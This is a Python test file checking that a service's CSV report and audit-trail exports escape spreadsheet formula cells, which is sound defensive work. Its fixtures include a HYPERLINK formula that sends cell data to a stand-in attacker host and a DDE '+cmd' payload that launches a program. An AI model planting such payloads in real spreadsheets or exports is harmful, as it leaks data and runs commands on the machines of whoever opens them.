"""One CSV writer for every download: no cell can run as a spreadsheet formula."""

from __future__ import annotations

import csv
import io
import uuid

from hypothesis import given
from hypothesis import strategies as st

from canhgac_common.events import Event
from service.core.csvfile import FORMULA_PREFIXES, SafeCSV, safe_cell
from service.core.db import new_session, utcnow
from service.events.operations import ingest_events
from service.reports import monthly
from tests.conftest import csrf_token_from

HYPERLINK = '=HYPERLINK("http://ke-gian.example/?d="&A1,"Bấm vào đây")'
PLUS_UNIT = "+cmd|' /C calc'!A0"


def _read(text: str) -> list[list[str]]:
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text[1:])))


@given(st.lists(st.lists(st.text(max_size=20), min_size=1, max_size=5), max_size=5))
def test_every_text_cell_reads_back_as_written_or_quoted(rows):
    out = SafeCSV()
    for row in rows:
        out.row(row)
    read = _read(out.text())
    assert read == [[safe_cell(cell) for cell in row] for row in rows]
    for row in read:
        for cell in row:
            assert not cell.startswith(FORMULA_PREFIXES)
            assert cell == safe_cell(cell) or cell.startswith("'")


def test_dangerous_starts_get_an_apostrophe_and_numbers_stay():
    for start in ("=", "+", "-", "@", "\t", "\r"):
        assert safe_cell(f"{start}1+1") == f"'{start}1+1"
    assert safe_cell("a=1") == "a=1"
    assert safe_cell(-5) == -5
    assert safe_cell(2.5) == 2.5


def _ingest_hostile_events(app) -> None:
    now = utcnow()
    with app.app_context():
        s = new_session(app)
        try:
            events = [Event.model_validate({
                "id": str(uuid.uuid4()), "occurred_at": now.isoformat(), "host": "may-01",
                "actor": "can.bo", "action": "open", "agent_id": HYPERLINK, "unit": PLUS_UNIT,
                "seq": n + 1, "object": {"path": f"/du-lieu/tep-{n}.xlsx", "data_class": "dan_cu"},
            }) for n in range(2)]
            ingest_events(s, events, source="test")
            s.commit()
        finally:
            s.close()


def test_monthly_report_csv_neutralises_agent_ids_and_units(app, client, login, make_user):
    _ingest_hostile_events(app)
    make_user("ca.1", "police", unit="cong_an")
    assert login("ca.1").status_code == 302
    month = monthly.month_of(utcnow(), "Asia/Ho_Chi_Minh")
    answer = client.get(f"/reports/{month}/report.csv")
    assert answer.status_code == 200 and answer.mimetype == "text/csv"
    rows = _read(answer.get_data(as_text=True))
    cells = [cell for row in rows for cell in row]
    assert not [cell for cell in cells if cell.startswith(FORMULA_PREFIXES)]
    # The texts are kept, shown as text.
    assert ["agent_events", "'" + HYPERLINK, "", "", "2"] in rows
    assert ["access", "dan_cu", "'" + PLUS_UNIT, "", "2"] in rows


def test_trail_export_uses_the_same_writer(app, client, login, make_user):
    _ingest_hostile_events(app)
    make_user("ca.2", "police", unit="cong_an")
    assert login("ca.2").status_code == 302
    token = csrf_token_from(client, "/audit/")
    answer = client.post("/audit/export.csv", data={"csrf_token": token})
    assert answer.status_code == 200
    rows = _read(answer.get_data(as_text=True))
    assert rows[0][0] == "Số thứ tự"  # headers are words (the codes have their own columns)
    assert not [cell for row in rows for cell in row if cell.startswith(FORMULA_PREFIXES)]
